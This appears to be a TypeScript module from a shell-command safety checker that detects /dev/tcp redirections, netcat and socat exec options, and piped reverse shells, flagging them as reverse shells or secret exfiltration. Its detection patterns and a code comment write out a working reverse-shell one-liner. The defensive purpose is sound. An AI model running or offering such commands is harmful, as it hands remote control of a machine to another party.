// Raw network connections: bash's /dev/tcp redirections and shells handed to a socket (reverse and bind shells).
import type { Invocation, Word } from "../../../types.js";
import { NETWORK_DEVICE } from "../../paths.js";
import { SENDERS, type Ctx } from "./common.js";
import { codeSource } from "./code.js";
import { leakFrom } from "./leaks.js";

const OUTPUT_OPS = new Set([">", ">>", ">|", "&>", "&>>", ">&", "<>"]);
/** Tools that bridge a socket to a program: the program's input comes from whoever is on the other end. */
const SOCKET_EXEC = /^(?:exec|system):/i;

/** A shell or interpreter that reads its commands from stdin, i.e. from whatever is connected to it. */
const readsCommands = (inv: Invocation) => codeSource(inv)?.stdin === true;

const hostPort = (path: string) => path.split("/").slice(3).join(":");

export function checkSockets(inv: Invocation, ctx: Ctx): void {
  const net = inv.redirects.filter((r) => r.target?.value !== undefined && NETWORK_DEVICE.test(r.target.value));
  if (net.length) {
    const first = net[0]!.target!;
    const dest = hostPort(first.value!);
    if (readsCommands(inv)) {
      ctx.report("reverse-shell", { word: first, data: { runner: inv.program ?? "the shell", dest } });
      return;
    }
    if (net.some((r) => OUTPUT_OPS.has(r.op) && (r.fd === undefined || r.fd === 1))) {
      const leak = leakFrom(inv, ctx);
      if (leak?.env) ctx.report("exfiltrate-env", { word: first, data: { dest } });
      else if (leak?.secret) ctx.report("exfiltrate-secret", { word: first, data: { what: leak.secret.what, dest }, ...(leak.secret.maybe ? { risk: "high" as const } : {}) });
    }
  }
  const p = inv.program;
  if (p === "nc" || p === "ncat" || p === "netcat") {
    const exec = execOption(inv.argv.slice(1));
    if (exec) ctx.report("reverse-shell", { word: exec, data: { runner: exec.value ?? exec.raw, dest: "anyone who connects" } });
  } else if (p === "socat") {
    const exec = inv.argv.slice(1).find((w) => w.value !== undefined && SOCKET_EXEC.test(w.value));
    if (exec) ctx.report("reverse-shell", { word: exec, data: { runner: exec.value!.replace(SOCKET_EXEC, ""), dest: "the other end of the connection" } });
  }
  // `cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f`: a shell whose output goes to a socket and whose input comes back from it.
  if (p && inv.stdin?.kind === "command" && readsCommands(inv)) {
    const out = ctx.invocations.find((o) => o.stdin?.kind === "command" && o.stdin.index === inv.index && o.program !== undefined && SENDERS.has(o.program));
    if (out) ctx.report("reverse-shell", { word: inv.argv[0]!, data: { runner: p, dest: `${out.program}'s connection` } });
  }
}

/** nc's `-e PROG` / `-c CMD` and ncat's `--exec`, `--sh-exec`, `--lua-exec`: the word naming what is run. */
function execOption(args: Word[]): Word | undefined {
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value;
    if (v === undefined) continue;
    if (/^--(exec|sh-exec|lua-exec)$/.test(v) || /^-[A-Za-z]*[ec]$/.test(v)) return args[i + 1] ?? args[i];
    if (/^--(exec|sh-exec|lua-exec)=/.test(v) || /^-[ec]./.test(v)) return args[i];
  }
  return undefined;
}
